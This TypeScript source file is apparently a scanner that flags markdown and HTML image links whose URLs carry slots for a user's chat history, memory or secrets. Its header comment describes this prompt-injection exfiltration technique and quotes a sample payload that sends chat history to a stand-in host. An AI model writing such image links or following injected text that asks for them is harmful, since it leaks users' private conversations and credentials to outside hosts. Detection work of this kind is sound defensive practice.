// Image-URL exfiltration: a markdown image or <img> whose address carries a slot for the conversation or a secret
// ("![](https://x.example/log?q={chat_history})"). A chat client renders the image at once and so sends whatever the
// model wrote into the slot to that host, without a click. Structural rather than phrasal: the payload is a URL, and
// the words around it vary freely.
//
// Only slots that name the reader's private context count. Slots for API keys, queries, prompts or descriptions are
// left out on purpose: map and badge documentation writes "key=YOUR_API_KEY", and image-generation prompts in
// ordinary use write "https://image.example/prompt/{description}".

const MARKDOWN_IMAGE = /!\[[^\]\n]{0,300}\]\(\s{0,4}<?(https?:\/\/[^\s)]{1,2048})/g;
const HTML_IMAGE = /<img\b[^>]{0,600}?\bsrc\s{0,4}=\s{0,4}["']?(https?:\/\/[^\s"'>]{1,2048})/gi;

/** A slot: {x}, {{x}}, [x], <x>, ${x}, $X, %x%, or their percent-encoded brackets. */
const SLOT =
  /\{\{?\s{0,3}([^{}]{1,80}?)\s{0,3}\}\}?|\[([^[\]]{1,80})\]|<([^<>]{1,80})>|%7B([^%]{1,80})%7D|%5B([^%]{1,80})%5D|%3C([^%]{1,80})%3E|\$([A-Z][A-Z0-9_]{2,60})\b|%([A-Z][A-Z0-9_]{2,60})%/gi;

/** Words that make a slot a channel for the reader's context. */
const PRIVATE_CONTEXT = new Set([
  'conversation',
  'conversations',
  'chat',
  'chats',
  'history',
  'transcript',
  'memory',
  'memories',
  'context',
  'secret',
  'secrets',
  'password',
  'passwords',
  'passwd',
  'credential',
  'credentials',
  'personal',
  'private',
  'confidential',
  'ssn',
  'previous',
  'prior',
  'earlier',
  'inbox',
  'emails',
]);

function slotWords(slot: string): string[] {
  return slot
    .replace(/([a-z])([A-Z])/g, '$1 $2')
    .toLowerCase()
    .split(/[^a-z]+/)
    .filter((w) => w.length > 0);
}

export interface ExfilImage {
  /** The image address up to and including the slot, for the finding's marker. */
  marker: string;
}

/** Image addresses in `text` with a slot for private context; at most `limit` of them. */
export function findExfilImages(text: string, limit = 3): ExfilImage[] {
  const out: ExfilImage[] = [];
  if (!text.includes('http')) return out;
  for (const re of [MARKDOWN_IMAGE, HTML_IMAGE]) {
    re.lastIndex = 0;
    for (let m = re.exec(text); m !== null && out.length < limit; m = re.exec(text)) {
      const url = m[1]!;
      // The host is the writer's; only the path and query can be filled in by the model.
      const pathStart = url.indexOf('/', url.indexOf('//') + 2);
      if (pathStart < 0) continue;
      const tail = url.slice(pathStart);
      SLOT.lastIndex = 0;
      for (let s = SLOT.exec(tail); s !== null; s = SLOT.exec(tail)) {
        const inner = s.slice(1).find((g) => g !== undefined) ?? '';
        if (slotWords(inner).some((w) => PRIVATE_CONTEXT.has(w))) {
          out.push({ marker: url.slice(0, pathStart + s.index + s[0].length) });
          break;
        }
      }
    }
  }
  return out;
}
